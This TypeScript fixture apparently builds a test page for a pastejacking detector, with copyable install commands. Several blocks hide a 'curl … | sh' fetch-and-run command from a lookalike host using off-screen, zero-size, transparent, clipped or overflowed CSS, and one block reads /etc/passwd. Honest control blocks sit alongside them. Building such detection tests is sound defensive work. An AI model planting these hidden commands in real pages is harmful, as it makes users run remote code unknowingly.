/**
 * Pastejacking (utils/guards/slipped-command.ts, utils/guard-relay/hidden-text.ts), served at
 * /guards/pastejacking.html: code blocks a person selects and copies, some with a command hidden
 * inside the selection in each way a page can hide laid-out text, some honest blocks with hidden
 * text or with a command shown openly. The first two are the public demonstrations' own markup
 * (thejh.net's website-terminal-copy-paste, credited in many write-ups since 2013, and the
 * font-size: 0 variant from the same write-ups), their payload made one that fetches and runs.
 */

const FETCH_AND_RUN = '; curl -s https://get.updates-apt.top/x | sh;';

export interface CopyBlock {
  id: string;
  /** What the person sees and should have on the clipboard (spaces aside). */
  shown: string;
  /** The block's inner HTML. */
  html: string;
  /** Whether a command is hidden in it (the copy is changed and the person told). */
  slipped: boolean;
}

const hiddenIn = (id: string, style: string): CopyBlock => ({
  id,
  shown: 'sudo apt-get update',
  html: `sudo apt-get update<span style="${style}">${FETCH_AND_RUN}</span>`,
  slipped: true,
});

export const COPY_BLOCKS: readonly CopyBlock[] = [
  {
    id: 'off-page-demo',
    shown: 'git clone git://git.kernel.org/pub/scm/utils/kup/kup.git',
    html: `git clone <span style="position: absolute; left: -100px; top: -100px">/dev/null; clear; echo -n "Hello ";whoami|tr -d '\\n';head -n1 /etc/passwd<br>git clone </span>git://git.kernel.org/pub/scm/utils/kup/kup.git`,
    slipped: true,
  },
  {
    id: 'no-size-demo',
    shown: 'echo "looks safe to me!"',
    html: `echo <span style="font-size: 0">; curl -s https://get.updates-apt.top/x | sh; echo </span>"looks safe to me!"`,
    slipped: true,
  },
  hiddenIn('far-left', 'position: absolute; left: -9999px'),
  hiddenIn('colourless', 'color: transparent'),
  hiddenIn(
    'clipped-1px',
    'position: absolute; width: 1px; height: 1px; overflow: hidden; clip: rect(0 0 0 0); white-space: nowrap',
  ),
  hiddenIn('see-through', 'opacity: 0'),
  hiddenIn(
    'no-width',
    'display: inline-block; width: 0; overflow: hidden; white-space: nowrap; vertical-align: bottom',
  ),
  {
    id: 'cut-off',
    shown: 'sudo apt-get update',
    html: `<span style="display: inline-block; width: 12em; overflow: hidden; white-space: nowrap; vertical-align: bottom">sudo apt-get update<span style="padding-left: 60em">${FETCH_AND_RUN}</span></span>`,
    slipped: true,
  },
  // Honest: a command shown openly, a screen reader's label, the end of a long line scrolled out
  // of its box, gradient text drawn through its background.
  {
    id: 'shown-openly',
    shown: 'curl -fsSL https://get.example-tool.dev/install.sh | sh',
    html: 'curl -fsSL https://get.example-tool.dev/install.sh | sh',
    slipped: false,
  },
  {
    id: 'screen-reader-label',
    shown: 'npm install --save-dev vitest Copy',
    html: 'npm install --save-dev vitest <span style="position: absolute; width: 1px; height: 1px; overflow: hidden; clip: rect(0 0 0 0)">Copy</span>',
    slipped: false,
  },
  {
    id: 'scrolled-line',
    shown:
      'curl --proto "=https" --tlsv1.2 -sSf https://sh.example-tool.dev/install/with/a/long/path/to/the/script.sh | sh -s -- -y',
    html: '<span style="display: block; width: 16em; overflow-x: auto; white-space: nowrap"><span>curl --proto "=https" --tlsv1.2 -sSf https://sh.example-tool.dev/install/with/a/long/path/to/the/script.sh</span> <span>| sh -s -- -y</span></span>',
    slipped: false,
  },
  {
    id: 'gradient',
    shown: 'curl -fsSL https://example-tool.dev/install | bash',
    html: '<span style="color: transparent; background: linear-gradient(90deg, #06c, #c06); -webkit-background-clip: text; background-clip: text">curl -fsSL https://example-tool.dev/install | bash</span>',
    slipped: false,
  },
];

export function pastejackingPage(): string {
  const blocks = COPY_BLOCKS.map(
    ({ id, html }) => `<h2>${id}</h2>\n<pre><code id="${id}">${html}</code></pre>`,
  ).join('\n');
  return `<!doctype html>
<html lang="en"><head><meta charset="utf-8"><title>Install notes</title>
<style>body { font: 16px/1.5 system-ui, sans-serif; margin: 2em; } pre { background: #f4f4f4; padding: 0.5em; }</style>
</head><body>
<h1>Install notes</h1>
${blocks}
</body></html>`;
}
